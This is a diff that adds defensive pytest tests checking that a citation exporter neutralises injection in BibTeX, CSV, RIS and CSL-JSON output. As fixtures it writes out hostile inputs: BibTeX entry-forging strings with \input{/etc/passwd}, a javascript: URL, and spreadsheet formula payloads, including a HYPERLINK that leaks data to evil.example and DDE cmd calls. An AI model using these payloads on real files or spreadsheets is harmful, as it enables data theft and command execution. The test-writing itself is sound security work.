@@ -113,3 +113,55 @@ def test_csv_round_trips_with_citations():
 def test_unknown_format_is_a_plain_error():
     with pytest.raises(PodiumError):
         export([QUOTE], "docx")
+
+
+FORGED_URL = "https://forum.example/e}, note = {\\input{/etc/hostname}} @misc{forged, title = {x}"
+HOSTILE = CiteRecord(
+    **{
+        **QUOTE.__dict__,
+        "id": "h1",
+        "url": FORGED_URL,
+        "title": "Braces } { and \\input{/etc/passwd}\n@misc{forged2, title={y}}",
+        "text": "A quote }\n\n@misc{forged3,\n note = {z}} \\end",
+        "organisation": "Org}, author = {Someone Else",
+    }
+)
+SCRIPTED = CiteRecord(**{**PAGE.__dict__, "id": "h2", "url": "javascript:alert(1)"})
+BROKEN = CiteRecord(**{**HOSTILE.__dict__, "id": "h3", "url": FORGED_URL.replace(" @", "\n@")})
+
+
+@pytest.mark.parametrize("fmt", ["bibtex", "biblatex"])
+def test_hostile_values_cannot_forge_a_bibtex_entry(fmt):
+    data = text(fmt, [HOSTILE, SCRIPTED, BROKEN])
+    entries = bib_entries(data)
+    assert set(entries) == {"h1", "h2", "h3"}  # no forged entry, nothing lost
+    hostile = entries["h1"]
+    # url is a verbatim field (biblatex): read as written, no LaTeX decoding of its "%"
+    url = bibtexparser.parse_string(data).entries[0]["url"]
+    assert url.startswith("https://forum.example/e") and not set(url) & set("{}\\ \n")
+    assert "%7D" in url and "%5C" in url and "%20" in url  # percent-encoded
+    assert "input" in hostile["title"] and "forged2" in hostile["title"]  # kept, as text
+    assert "url" not in entries["h2"].fields_dict  # javascript: is no URL
+    assert "url" not in entries["h3"].fields_dict  # nor is anything with a line break
+    for line in data.splitlines():  # every field on one line
+        assert not line.strip() or line.startswith(("@", "  ", "}")), line
+
+
+def test_csv_cells_never_start_a_formula():
+    starts = ["=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "@SUM(1+1)", "+cmd|' /C calc'!A0",
+              "-2+3+cmd|' /C calc'!A0", "\tTAB", "\rCR", "＝1+1", "＋1", "－1", "＠SUM(1)"]  # fmt: skip
+    records = [
+        CiteRecord(**{**QUOTE.__dict__, "id": f"f{i}", "text": s, "title": s, "speaker": s[:5] + " Ann",
+                      "role": s, "organisation": s, "url": "https://forum.example/" + s})
+        for i, s in enumerate(starts)
+    ]  # fmt: skip
+    rows = list(csv.reader(io.StringIO(text("csv", records))))[1:]
+    cells = [cell for row in rows for cell in row if cell]
+    bad = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+    assert len(rows) == len(starts) and not [c for c in cells if c.startswith(bad)]
+    assert rows[0][0] == "'" + starts[0]  # the text is all there, shown as text
+
+
+def test_ris_and_csl_json_drop_a_url_that_is_not_http():
+    assert "javascript:" not in text("ris", [SCRIPTED])
+    assert "URL" not in json.loads(text("csl-json", [SCRIPTED]))[0]
